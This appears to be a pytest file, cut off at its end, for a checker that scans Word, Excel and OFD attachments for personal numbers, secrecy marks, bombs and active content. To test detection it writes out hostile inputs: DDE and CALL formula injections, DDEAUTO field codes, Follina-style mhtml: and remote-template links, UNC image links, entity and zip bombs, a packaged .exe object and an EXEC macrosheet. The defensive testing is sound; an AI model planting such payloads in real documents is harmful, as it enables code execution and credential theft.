"""DOCX, XLSX, OFD: a number and a secrecy mark planted in every part are found where they are; unreadable parts are
named (GK305); bombs are refused (GK307)."""

from __future__ import annotations

import datetime as dt
import io
import re
import time
import zipfile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gongkai.checks import pii, privacy
from gongkai.readers import fields, office
from gongkai.readers.core import PART_BYTES

from ..samples import (
    DOCX_PARTS,
    ID,
    MARK,
    XLSX_PARTS,
    bomb_docx,
    docx_everywhere,
    docx_with,
    findings,
    office_zip,
    planted,
    xlsx_everywhere,
    xlsx_with,
)


@pytest.mark.parametrize("name, make, parts", [("a.docx", docx_everywhere, DOCX_PARTS), ("a.xlsx", xlsx_everywhere, XLSX_PARTS)])
def test_a_number_in_every_part_is_found_where_it_is(site, name, make, parts):
    data, numbers = make()
    mobiles, _ = findings(site, name, data)
    messages = [p.message for p in mobiles]
    for kind, where in parts.items():
        masked = pii.mask(numbers[kind])
        assert any(masked in message and where in message for message in messages), (kind, where, messages)
    assert all(number not in message for message in messages for number in numbers.values())


@pytest.mark.parametrize("name, make, parts", [("a.docx", docx_everywhere, DOCX_PARTS), ("a.xlsx", xlsx_everywhere, XLSX_PARTS)])
def test_a_secrecy_mark_in_every_part_is_found(site, name, make, parts):
    data, _ = make()
    _, marks = findings(site, name, data)
    messages = " ".join(p.message for p in marks)
    for where in parts.values():
        assert where.split("第")[0] in messages, where


def test_docx_table_cell_mark_and_tracked_changes(site):
    data, numbers = docx_everywhere()
    mobiles, marks = findings(site, "a.docx", data)
    assert any("第 1 个表格第 1 行" in p.message and "“机密”" in p.message for p in marks)  # cells 密级 | 机密
    deleted = pii.mask(numbers["deleted"])
    assert any(deleted in p.message and "修订前的文字" in p.message for p in mobiles)


@pytest.mark.parametrize("number", ["²", "①", "9" * 5000])
def test_a_sheet_whose_numbers_int_refuses_is_still_read(site, number):
    """A row number, style or shared-string index written with a digit `str.isdigit` allows but int() refuses (² ①,
    thousands of digits) made the whole sheet an unreadable part: its 身份证号 only a GK305 warning."""
    data, numbers = xlsx_everywhere()
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"].decode()
    sheet = re.sub(r'<row r="\d+"', f'<row r="{number}"', sheet, count=1)
    sheet = re.sub(r'<c r="([A-Z]+\d+)"', rf'<c r="\1" s="{number}"', sheet, count=1)
    parts["xl/worksheets/sheet1.xml"] = sheet.replace("<v>0</v>", f"<v>{number}</v>", 1).encode()
    site.attach("a.xlsx", office_zip(parts))
    site.item(attachments=[{"title": "名单", "file": "a.xlsx"}])
    messages = [p.message for p in site.problems(privacy.NOT_SCANNED.code)]
    assert not any("sheet1.xml" in m for m in messages), messages
    assert any(pii.mask(numbers["inline-string"]) in p.message for p in site.problems(privacy.MOBILE.code))


def test_unreadable_parts_are_named(site):
    data, _ = docx_everywhere()
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    parts["word/comments.xml"] = b"<w:comments><broken"
    parts["word/media/image1.png"] = b"\x89PNG"
    parts["word/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0"
    site.attach("a.docx", office_zip(parts))
    site.item(attachments=[{"title": "材料", "file": "a.docx"}])
    messages = [p.message for p in site.problems(privacy.NOT_SCANNED.code)]
    assert any("批注（word/comments.xml）" in m for m in messages)
    assert any("1 张图片" in m and "image1.png" in m for m in messages)
    assert any("oleObject1.bin" in m for m in messages)
    assert site.problems(privacy.MOBILE.code)  # the other parts were still read


def test_zip_bomb_is_refused(site):
    bomb = bomb_docx(PART_BYTES + (8 << 20))
    assert len(bomb) < PART_BYTES // 100
    site.attach("bomb.docx", bomb)
    site.item(attachments=[{"title": "材料", "file": "bomb.docx"}])
    [problem] = site.problems(privacy.UNREADABLE.code)
    assert problem.severity == "error" and "bomb.docx" in problem.message and "压缩炸弹" in problem.message


def test_xml_entity_bomb_is_refused(site):
    laughs = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
              + "".join(f'<!ENTITY lol{n} "{("&lol" + str(n - 1) + ";" if n > 1 else "&lol;") * 10}">' for n in range(1, 10))
              + ']><w:document xmlns:w="w"><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>')
    site.attach("a.docx", office_zip({"word/document.xml": laughs}))
    site.item(attachments=[{"title": "材料", "file": "a.docx"}])
    [problem] = site.problems(privacy.UNREADABLE.code)
    assert "DTD" in problem.message


def test_ofd_text_codes_are_read_and_the_reviewer_still_looks(site):
    content = ('<ofd:Page xmlns:ofd="http://www.ofdspec.org/2016"><ofd:Content><ofd:Layer><ofd:TextObject Boundary="0 0 100 10">'
               f'<ofd:TextCode X="0" Y="5" DeltaX="3 3 3">联系人{planted(1)}</ofd:TextCode></ofd:TextObject>'
               f"<ofd:TextObject><ofd:TextCode>{MARK}</ofd:TextCode></ofd:TextObject></ofd:Layer></ofd:Content></ofd:Page>")
    mobiles, marks = findings(site, "a.ofd", office_zip({"OFD.xml": "<OFD/>", "Doc_0/Pages/Page_0/Content.xml": content}))
    assert mobiles and "页面内容" in mobiles[0].message and marks
    [unread] = site.problems(privacy.NOT_SCANNED.code)
    assert "OFD" in unread.message


def _ofd(*objects: str) -> bytes:
    """An OFD of one page drawing `objects` (TextObject elements)."""
    content = ('<ofd:Page xmlns:ofd="http://www.ofdspec.org/2016"><ofd:Content><ofd:Layer>' + "".join(objects)
               + "</ofd:Layer></ofd:Content></ofd:Page>")
    return office_zip({"OFD.xml": "<OFD/>", "Doc_0/Pages/Page_0/Content.xml": content})


def _glyph(text: str, x: float, y: float = 20, size: float = 4.2, attributes: str = "") -> str:
    """A text object of its own for `text` at (x, y) on the page, its baseline 4.5 mm lower (as print-to-OFD drivers
    write)."""
    return (f'<ofd:TextObject Boundary="{x} {y} 5 6" Font="1" Size="{size}"{attributes}>'
            f'<ofd:TextCode X="0" Y="4.5">{text}</ofd:TextCode></ofd:TextObject>')


def _ofd_lines_as_shown(data: bytes) -> list[str]:
    from gongkai.readers import core

    reading = core.Reading()
    office.read_ofd(data, "", reading, 0)
    return [line for segment in reading.segments if segment.where.endswith(core.AS_SHOWN)
            for line in segment.text.split("\n") if line]


@pytest.mark.parametrize("objects", [
    [_glyph(char, 20 + 5 * index) for index, char in enumerate(MARK)],  # one glyph per object, side by side
    # placed by each object's CTM in one boundary, and a star drawn larger in a font of its own, on the same baseline
    [f'<ofd:TextObject Boundary="0 0 200 50" Size="4.2" CTM="1 0 0 1 {20 + 5 * index} 24.5"><ofd:TextCode X="0" Y="0">'
     f"{char}</ofd:TextCode></ofd:TextObject>" for index, char in enumerate(MARK)],
    [_glyph("机", 20), _glyph("密", 25), _glyph("★", 30, 19.5, 6), _glyph("1年", 36)],
    # one object, a text code per glyph, each at its own X (the next without X keeps the X before it: Y moves it)
    ['<ofd:TextObject Boundary="20 20 100 6" Size="4.2">'
     + "".join(f'<ofd:TextCode X="{5 * index}" Y="4.5">{char}</ofd:TextCode>' for index, char in enumerate(MARK))
     + "</ofd:TextObject>"],
    # a glyph the page does not draw between the mark's pieces
    [_glyph("机密", 20), _glyph("之", 30, attributes=' Visible="false"'), _glyph("★", 30), _glyph("1年", 35)],
])
def test_a_mark_an_ofd_draws_one_glyph_per_object_is_read_as_the_line_drawn(site, objects):
    """Print-to-OFD drivers write each glyph or run as a text object of its own: 机 密 ★ 1 年 side by side on one
    baseline were five lines, and no 密级 was found (a GK305 warning only)."""
    _, marks = findings(site, "a.ofd", _ofd(*objects))
    assert any("页面内容第 1 行（按显示的样子）" in p.message and MARK in p.message for p in marks), marks


def test_a_number_an_ofd_draws_in_runs_side_by_side_is_found(site):
    number = planted(7)
    mobiles, _ = findings(site, "a.ofd", _ofd(_glyph("电话", 10), _glyph(number[:3], 20), _glyph(number[3:7], 26.3),
                                              _glyph(number[7:], 34.7)))
    assert any(pii.mask(number) in p.message and "按显示的样子" in p.message for p in mobiles), mobiles


def test_ofd_glyphs_on_lines_apart_are_not_joined_and_gaps_read_as_blanks():
    """One line per baseline: the same glyphs far apart vertically stay apart; a gap of a word reads as a blank, a
    column's as a tab, so a table row's cells 139 | 1234 | 5678 are not read as one phone number."""
    data = _ofd(*(_glyph(char, 20, 20 + 15 * index) for index, char in enumerate("机密★")),
                *(_glyph(piece, 20 + 40 * index, 80) for index, piece in enumerate(("139", "1234", "5678"))),
                _glyph("联系", 20, 100), _glyph("方式", 34, 100.4), _glyph("左栏", 20, 120), _glyph("右栏", 120, 120))
    assert _ofd_lines_as_shown(data) == ["139\t1234\t5678", "联系 方式", "左栏\t右栏"]


def test_ofd_columns_sharing_a_baseline_are_read_apart(site):
    number = planted(8)
    data = _ofd(*(_glyph(piece, 20 + 40 * index) for index, piece in enumerate((number[:3], number[3:7], number[7:]))))
    mobiles, _ = findings(site, "a.ofd", data)
    assert not mobiles and _ofd_lines_as_shown(data) == [f"{number[:3]}\t{number[3:7]}\t{number[7:]}"]


def test_an_ofd_page_past_the_glyphs_laid_out_says_so(monkeypatch):
    from gongkai.readers import core

    monkeypatch.setattr(office, "_OFD_GLYPHS", 3)
    reading = core.Reading()
    office.read_ofd(_ofd(*(_glyph(char, 20 + 5 * index) for index, char in enumerate(MARK))), "", reading, 0)
    assert [segment.text for segment in reading.segments if segment.where.endswith(core.AS_SHOWN)] == ["机密★"]
    assert any("没有按显示的位置连成行" in unread.reason for unread in reading.unread), reading.unread


def test_link_targets_in_a_docx_are_read(site):
    data, _ = docx_everywhere()
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    parts["word/_rels/document.xml.rels"] = parts["word/_rels/document.xml.rels"].replace(
        b"</Relationships>", f'<Relationship Id="l" Target="tel:{planted(99)}" TargetMode="External"/></Relationships>'.encode())
    mobiles, _ = findings(site, "a.docx", office_zip(parts))
    assert any(pii.mask(planted(99)) in p.message and "链接" in p.message for p in mobiles)


def test_numbers_written_in_exponent_form_are_read_in_every_part(site):
    """Excel shows 1.3900000001E10 as 13900000001 wherever it caches a value: a chart, a pivot cache, an external link."""
    def exponent(number: int) -> str:
        return f"{float(planted(number)):.10E}"

    data, _ = xlsx_everywhere()
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        parts: dict[str, str | bytes] = {name: source.read(name) for name in source.namelist()}
    main = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    parts["xl/charts/chart1.xml"] = (f'<c:chartSpace xmlns:c="c"><c:numCache><c:pt idx="0"><c:v>{exponent(91)}</c:v></c:pt>'
                                     "</c:numCache></c:chartSpace>")
    parts["xl/pivotCache/pivotCacheRecords1.xml"] = f'<pivotCacheRecords {main}><r><n v="{exponent(92)}"/></r></pivotCacheRecords>'
    parts["xl/externalLinks/externalLink1.xml"] = (
        f'<externalLink {main}><externalBook><sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1"><v>{exponent(93)}</v>'
        "</cell></row></sheetData></sheetDataSet></externalBook></externalLink>")
    mobiles, _ = findings(site, "a.xlsx", office_zip(parts))
    for number, where in ((91, "图表"), (92, "数据透视表缓存"), (93, "外部链接缓存")):
        assert any(pii.mask(planted(number)) in p.message and where in p.message for p in mobiles), (number, where)


@pytest.mark.parametrize("name", ["a.xlsx", "a.xls"])
def test_what_a_number_format_writes_into_a_cell_is_read(site, name):
    """The cell holds part of the number, its format writes the rest: the reader sees the whole — also in a workbook
    named .xls, which Excel opens as what it is (read as a plain zip, the formats were never applied)."""
    from openpyxl import Workbook

    from ..samples import ID

    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "名单"
    sheet.append(["姓名", "电话", "身份证号"])
    sheet.append(["张三", 12345678, int(ID[-4:])])
    sheet["B2"].number_format = '"139"00000000'
    sheet["C2"].number_format = f'"{ID[:-4]}"0000'
    sheet["A3"] = "5678"
    sheet["A3"].number_format = '"139-1234-"@'  # a text cell's format writes around the text
    out = io.BytesIO()
    workbook.save(out)
    site.attach(name, out.getvalue())
    site.item(attachments=[{"title": "名单", "file": name}])
    problems = site.check()
    found = {(p.code, p.message.split("有")[-1][:30]) for p in problems if p.code in (privacy.MOBILE.code, privacy.ID18.code)}
    assert any(code == privacy.ID18.code and pii.mask(ID) in message for code, message in found), found
    messages = " ".join(p.message for p in problems if p.code == privacy.MOBILE.code)
    assert "第 2 行" in messages and "第 3 行" in messages and messages.count("139****5678") == 2, messages


@pytest.mark.parametrize("name", ["a.docx", "a.xlsx", "a.csv"])
def test_an_id_split_across_a_rows_cells_is_found_and_a_row_of_figures_is_no_phone(site, name):
    from openpyxl import Workbook

    from ..samples import ID

    rows = [["姓名", "地区", "出生", "顺序码"], ["张三", ID[:6], ID[6:14], ID[14:]], ["户数", "135", "2000", "3000"]]
    if name == "a.xlsx":
        workbook = Workbook()
        for row in rows:
            workbook.active.append(row)
        out = io.BytesIO()
        workbook.save(out)
        data = out.getvalue()
    elif name == "a.docx":
        import docx

        document = docx.Document()
        table = document.add_table(rows=len(rows), cols=4)
        for number, row in enumerate(rows):
            for column, text in enumerate(row):
                table.cell(number, column).text = text
        out = io.BytesIO()
        document.save(out)
        data = out.getvalue()
    else:
        data = "\n".join(",".join(row) for row in rows).encode()
    site.attach(name, data)
    site.item(attachments=[{"title": "名单", "file": name}])
    assert [p.code for p in site.check() if p.code[:3] == "GK3"] == [privacy.ID18.code]


def _sheet_or_csv(name: str, rows: list[list[str]]) -> bytes:
    from openpyxl import Workbook

    if name.endswith(".docx"):  # a Word table, a cell's lines its paragraphs (python-docx takes minutes for 3,000 rows)
        import docx

        document = docx.Document()
        out = io.BytesIO()
        document.save(out)
        table = "<w:tbl>" + "".join("<w:tr>" + "".join("<w:tc>" + "".join(f"<w:p><w:r><w:t>{line}</w:t></w:r></w:p>"
                                                                          for line in cell.split("\n")) + "</w:tc>"
                                                        for cell in row) + "</w:tr>" for row in rows) + "</w:tbl>"
        source, result = zipfile.ZipFile(out), io.BytesIO()
        with zipfile.ZipFile(result, "w") as target:
            for member in source.namelist():
                data = source.read(member)
                if member == "word/document.xml":
                    data = data.replace(b"<w:sectPr", table.encode() + b"<w:sectPr", 1)
                target.writestr(member, data)
        return result.getvalue()
    if name.endswith(".csv"):
        return "\n".join(",".join(f'"{cell}"' if "\n" in cell else cell for cell in row) for row in rows).encode()
    workbook = Workbook()
    for row in rows:
        workbook.active.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


@pytest.mark.parametrize("name", ["a.xlsx", "a.csv", "a.docx"])
@pytest.mark.parametrize(("rows", "line"), [
    ([["姓名", "号码"], ["张三", ID[:10]], [ID[10:], "无"]], 2),  # a row's end read on into the next
    ([[ID[:6], ID[6:14]], [ID[14:], "备注"]], 1),  # the header read on into the body
    ([[ID[:9]], [ID[9:]]], 1),  # down a column of one header and one row
    ([["姓名", "号码"], ["张三", f"{ID[:6]}\n{ID[6:]}"]], 2),  # a cell of two lines
])
def test_an_id_split_between_a_sheets_rows_is_found_as_in_a_pages_table(site, name, rows, line):
    """A body's table reads a row's last cells on into the next row's first (test_privacy); a sheet, a CSV or a Word
    table attached showed the same table, and its number, unread."""
    site.attach(name, _sheet_or_csv(name, rows))
    site.item(attachments=[{"title": "名单", "file": name}])
    [problem] = [p for p in site.check() if p.code[:3] == "GK3"]
    assert problem.code == privacy.ID18.code and f"第 {line} 行" in problem.message, problem.message


@pytest.mark.parametrize("name", ["a.xlsx", "a.csv", "a.docx"])
def test_a_sheet_of_small_counts_is_no_id_however_its_rows_run_on(site, name):
    import random

    pick = random.Random(1).choice
    rows = [list("甲乙丙丁戊己庚辛壬")] + [[pick("0000000112") for _ in range(9)] for _ in range(3000)]
    site.attach(name, _sheet_or_csv(name, rows))
    site.item(attachments=[{"title": "统计", "file": name}])
    assert [p for p in site.check() if p.code[:3] == "GK3"] == []


@pytest.mark.parametrize("name, make, broken", [
    ("a.xlsx", xlsx_everywhere, "xl/sharedStrings.xml"),
    ("a.xlsx", xlsx_everywhere, "xl/workbook.xml"),
    ("a.docx", docx_everywhere, "word/_rels/document.xml.rels"),
])
def test_a_damaged_part_that_others_are_read_with_does_not_hide_them(site, name, make, broken):
    """Excel repairs a damaged shared-strings part and shows the rest: the scan reads the rest too, and names the part."""
    data, numbers = make()
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        parts: dict[str, str | bytes] = {part: source.read(part) for part in source.namelist()}
    parts[broken] = parts[broken][: len(parts[broken]) // 2]  # cut off mid-way
    mobiles, _ = findings(site, name, office_zip(parts))
    assert len(mobiles) >= len(numbers) // 2, [p.message for p in mobiles]
    assert any(broken in p.message for p in site.problems(privacy.NOT_SCANNED.code))


@given(st.text(st.sampled_from("0123456789٣.xmlsheta"), max_size=30))
def test_a_part_name_loses_its_number_as_the_pattern_says(name):
    assert office._without_number(name) == re.sub(r"\d*\.xml$", "", name)


def test_a_part_name_of_a_long_run_of_digits_costs_linear_time():
    """`\\d*\\.xml$` tried every digit of a run at each of its positions: 26,000 digits took seconds a name."""
    for name in ("2021" * 50_000 + "z", "2021" * 50_000 + ".xml", "sheet" + "1" * 200_000 + ".xmlx"):
        started = time.process_time()
        office._without_number(name)
        assert time.process_time() - started < 1.0


_W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


@pytest.mark.parametrize(("part", "xml", "label"), [
    ("word/numbering.xml", f'<w:numbering {_W_NS}><w:abstractNum w:abstractNumId="0"><w:nsid w:val="13900000"/>'
     '<w:lvl w:ilvl="0"><w:lvlText w:val="联系人{number} %1."/></w:lvl></w:abstractNum></w:numbering>', "项目编号格式"),
    ("word/styles.xml", f'<w:styles {_W_NS}><w:style w:styleId="a1"><w:name w:val="联系人{{number}}"/><w:rsid w:val="00326F90"/>'
     '</w:style></w:styles>', "样式"),
    ("word/settings.xml", f'<w:settings {_W_NS}><w:docVars><w:docVar w:name="contact" w:val="联系人{{number}}"/></w:docVars>'
     '<w:rsids><w:rsidRoot w:val="00B47730"/></w:rsids></w:settings>', "文档设置"),
    ("word/theme/theme1.xml", '<a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" name="联系人{number}"/>',
     "主题"),
])
def test_a_number_in_the_parts_word_shows_in_its_menus_or_before_list_items_is_found(site, part, xml, label):
    """A list level's text is drawn before every item of the list, a style's or theme's name shows in Word's menus,
    a document variable prints through a DOCVARIABLE field: these parts were skipped as formatting."""
    with zipfile.ZipFile(io.BytesIO(docx_with("正文", "无"))) as source:
        parts: dict[str, str | bytes] = {name: source.read(name) for name in source.namelist()}
    parts[part] = xml.format(number=planted(1))
    mobiles, _ = findings(site, "a.docx", office_zip(parts))
    assert len(mobiles) == 1 and label in mobiles[0].message, [p.message for p in mobiles]


@pytest.mark.parametrize("formula", ["=cmd|' /C calc'!A0", "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
                                     '=WEBSERVICE("http://example.com/?"&A1)', '=webservice ("http://example.com")',
                                     '=CALL("kernel32","WinExec","JCJ","calc",0)'])
def test_a_workbook_formula_that_calls_another_program_or_fetches_an_address_is_an_error(site, formula):
    """A workbook holds formulas by right, but one that starts a program by DDE, calls a library or fetches a web
    address when a reader opens the download is no table to publish (GK315)."""
    site.attach("a.xlsx", xlsx_with(formula))
    site.item(attachments=[{"title": "名单", "file": "a.xlsx"}])
    [problem] = site.problems(privacy.FORMULA.code)
    assert "名单" in problem.message and "第 2 行的公式" in problem.message


@pytest.mark.parametrize("formula", ["=SUM(A1:A3)", '=HYPERLINK("http://example.com","说明")', '=CONCAT("a|b",A1)',
                                     '=IF(A1>0,"是","否")'])
def test_an_ordinary_workbook_formula_is_let_be(site, formula):
    site.attach("a.xlsx", xlsx_with(formula))
    site.item(attachments=[{"title": "名单", "file": "a.xlsx"}])
    assert site.problems(privacy.FORMULA.code) == []


_RELS = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
         'relationships">{}</Relationships>')
_TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def _docx_relating(part: str, kind: str, target: str) -> bytes:
    """A DOCX whose `part` relates to `target` by address, with the relationship type `kind`."""
    with zipfile.ZipFile(io.BytesIO(docx_with("正文", "无"))) as source:
        parts: dict[str, str | bytes] = {name: source.read(name) for name in source.namelist()}
    existing = parts.get(part)
    relationships = existing.decode() if isinstance(existing, bytes) else _RELS.format("")
    relationship = f'<Relationship Id="rIdX" Type="{_TYPES}{kind}" Target="{target}" TargetMode="External"/>'
    parts[part] = relationships.replace("</Relationships>", relationship + "</Relationships>")
    return office_zip(parts)


@pytest.mark.parametrize(("part", "kind", "target", "said"), [
    ("word/_rels/settings.xml.rels", "attachedTemplate", "http://example.com/t.dotm", "远程模板（地址在 example.com）"),
    ("word/_rels/document.xml.rels", "oleObject", "mhtml:http://example.com/x.html!x-usc:http://example.com/x.html",
     "外部对象（地址在 example.com）"),
    ("word/_rels/document.xml.rels", "image", "\\\\10.0.0.9\\share\\1.png", "链接的图片（地址在 10.0.0.9）"),
    ("word/_rels/document.xml.rels", "image", "file:///C:/Users/x.png", "链接的图片"),
    ("word/_rels/document.xml.rels", "subDocument", "http://[", "外部子文档（地址在 无法解析的地址）"),
])
def test_a_document_that_loads_something_from_elsewhere_when_opened_is_an_error(site, part, kind, target, said):
    """Opened by a reader, Word fetches a template by address (and runs its macros), an object by address (Follina
    ran `mhtml:` so), a picture linked from a share (and hands the share the reader's password hash): GK316."""
    site.attach("a.docx", _docx_relating(part, kind, target))
    site.item(attachments=[{"title": "通知", "file": "a.docx"}])
    [problem] = site.problems(privacy.REMOTE.code)
    assert said in problem.message and problem.is_error


def test_a_hyperlink_to_elsewhere_is_let_be(site):
    site.attach("a.docx", _docx_relating("word/_rels/document.xml.rels", "hyperlink", "http://www.gov.cn/"))
    site.item(attachments=[{"title": "通知", "file": "a.docx"}])
    assert site.problems(privacy.REMOTE.code) == []


_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def _docx_with_xml(paragraph_xml: str) -> bytes:
    """A DOCX whose body holds `paragraph_xml` (WordprocessingML, prefix w) before its section settings."""
    with zipfile.ZipFile(io.BytesIO(docx_with("正文", "无"))) as source:
        parts: dict[str, str | bytes] = {name: source.read(name) for name in source.namelist()}
    document = parts["word/document.xml"]
    assert isinstance(document, bytes)
    parts["word/document.xml"] = document.decode().replace("<w:sectPr", paragraph_xml + "<w:sectPr", 1)
    return office_zip(parts)


def _complex_field(*pieces: str) -> str:
    """A field whose code is written in several runs, as Word writes one it has edited."""
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces)
    return (f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
            '<w:r><w:t>结果</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


@pytest.mark.parametrize(("paragraph", "code", "said"), [
    (_complex_field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '), "GK317", "域代码 DDEAUTO（启动其他程序）"),
    (_complex_field(" DD", "E cmd \"/c calc\" "), "GK317", "域代码 DDE（启动其他程序）"),
    ('<w:p><w:fldSimple w:instr=\' INCLUDEPICTURE "http://example.com/1.png" \\d \'><w:r><w:t>图</w:t></w:r></w:fldSimple></w:p>',
     "GK316", "域代码 INCLUDEPICTURE（地址在 example.com）"),
    (_complex_field(' INCLUDETEXT "\\\\\\\\10.0.0.9\\\\share\\\\a.docx" '), "GK316", "域代码 INCLUDETEXT（地址在 10.0.0.9）"),
    (_complex_field(' LINK Excel.Sheet.12 "\\\\\\\\srv\\\\data\\\\x.xlsx" "Sheet1!R1C1" \\a '), "GK316", "域代码 LINK（地址在 srv）"),
    # The address as a nested field's result (Word computes the inner field first): the outer's code was dropped.
    (_complex_field(' INCLUDEPICTURE "', '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
                    ' QUOTE "http://example.com/1.png" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
                    '<w:r><w:t>http://example.com/1.png</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
                    '<w:r><w:instrText xml:space="preserve">', '" \\d '), "GK316", "域代码 INCLUDEPICTURE（地址由其中嵌套的域算出"),
    (_complex_field(" DDE ", '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
                    ' QUOTE "cmd" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText>', ' "/c calc" '),
     "GK317", "域代码 DDE（启动其他程序）"),
])
def test_a_field_code_that_runs_a_program_or_fetches_an_address_is_an_error(site, paragraph, code, said):
    """Word runs a DDE field's program, and fetches an INCLUDEPICTURE's, INCLUDETEXT's or LINK's address, when the
    document is opened or its fields updated: however the code is split into runs (GK317, GK316)."""
    site.attach("a.docx", _docx_with_xml(paragraph.replace("<w:p>", f"<w:p {_W}>", 1)))
    site.item(attachments=[{"title": "通知", "file": "a.docx"}])
    found = [p for p in site.check() if p.code in ("GK316", "GK317")]
    assert [(p.code, said in p.message) for p in found] == [(code, True)], [p.message for p in found]


@pytest.mark.parametrize("written", ["139\n12345678", "139\r\n1234\n5678", "110105\n198701201243"])
def test_a_line_feed_inside_a_word_run_is_read_as_the_space_word_draws(site, written):
    """Word draws a line feed written inside a run's text as a space: 139⏎12345678 shows 139 12345678 on one line."""
    paragraph = f'<w:p {_W}><w:r><w:t xml:space="preserve">电话 {written}</w:t></w:r></w:p>'
    site.attach("a.docx", _docx_with_xml(paragraph))
    site.item(attachments=[{"title": "通知", "file": "a.docx"}])
    assert {p.code for p in site.check() if p.is_error} & {privacy.MOBILE.code, privacy.ID18.code}


def test_fields_that_fetch_nothing_are_let_be(site):
    fields = (_complex_field(" PAGE ") + _complex_field(' HYPERLINK "http://www.gov.cn/" ')
              + _complex_field(' INCLUDEPICTURE "图片/1.png" ') + _complex_field(" TOC \\o \"1-3\" "))
    site.attach("a.docx", _docx_with_xml(fields.replace("<w:p>", f"<w:p {_W}>")))
    site.item(attachments=[{"title": "通知", "file": "a.docx"}])
    assert [p for p in site.check() if p.code in ("GK316", "GK317")] == []


def test_a_workbook_that_connects_to_outside_data_is_an_error(site):
    """A web query or a database connection of a workbook fetches from its address when the data is refreshed."""
    with zipfile.ZipFile(io.BytesIO(xlsx_with("张三"))) as source:
        parts: dict[str, str | bytes] = {name: source.read(name) for name in source.namelist()}
    parts["xl/connections.xml"] = (
        '<?xml version="1.0" encoding="UTF-8"?><connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<connection id="1" name="网页" type="4" refreshOnLoad="1"><webPr url="http://example.com/list"/></connection>'
        '<connection id="2" name="库" type="1"><dbPr connection="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\\\db01\\share\\a.mdb"/>'
        "</connection></connections>")
    site.attach("a.xlsx", office_zip(parts))
    site.item(attachments=[{"title": "名单", "file": "a.xlsx"}])
    messages = sorted(p.message for p in site.problems(privacy.REMOTE.code))
    assert len(messages) == 2 and "地址在 db01" in messages[0] + messages[1] and "地址在 example.com" in messages[0] + messages[1]


_OFD_ACTION = ('<ofd:Document xmlns:ofd="http://www.ofdspec.org/2016"><ofd:Actions><ofd:Action Event="{event}">'
               '<ofd:URI URI="http://open.example.com/t"/></ofd:Action></ofd:Actions></ofd:Document>')


@pytest.mark.parametrize(("event", "fetches"), [("DO", True), ("PO", True), ("CLICK", False)])
def test_an_ofd_that_opens_an_address_by_itself_is_an_error(site, event, fetches):
    """An OFD action run as the document (DO) or a page (PO) opens reaches out from the reader's computer (GK316);
    one the reader clicks does not."""
    site.attach("a.ofd", office_zip({"OFD.xml": "<OFD/>", "Doc_0/Document.xml": _OFD_ACTION.format(event=event)}))
    site.item(attachments=[{"title": "通知", "file": "a.ofd"}])
    found = site.problems(privacy.REMOTE.code)
    assert [("地址在 open.example.com" in p.message) for p in found] == ([True] if fetches else [])


_PACKAGE_HEAD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(120) + "\x01Ole10Native".encode("utf-16-le") + bytes(64)


@pytest.mark.parametrize(("packaged", "said"), [("发票.pdf.exe", "发票.pdf.exe"), ("说明.js", "说明.js"), ("名单.pdf", None)])
def test_a_program_packaged_in_a_document_is_an_error(site, packaged, said):
    """Office's "insert object from file" shows a packaged file as an icon that runs when double-clicked: a program or
    a script so packaged in a DOCX is GK317, whatever the document says around it; a packaged PDF is not."""
    name = packaged.encode("gb18030")
    embedding = _PACKAGE_HEAD + b"\x02\x00" + name + b"\x00C:\\Users\\x\\" + name + b"\x00\x00\x00\x03\x00" + bytes(40)
    with zipfile.ZipFile(io.BytesIO(docx_with("正文", "无"))) as source:
        parts: dict[str, str | bytes] = {part: source.read(part) for part in source.namelist()}
    parts["word/embeddings/oleObject1.bin"] = embedding
    site.attach("a.docx", office_zip(parts))
    site.item(attachments=[{"title": "通知", "file": "a.docx"}])
    found = site.problems(privacy.SCRIPT.code)
    assert [f"嵌入的程序或脚本“{said}”" in p.message for p in found] == ([True] if said else [])


_MACRO_SHEET = ('<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" xmlns="http://schemas.'
                'openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><f>EXEC("calc")</f></c>'
                '<c r="A2"><f>HALT()</f></c></row></sheetData></xm:macrosheet>')


def _xlsx_relating(kind: str, part: str, body: str) -> bytes:
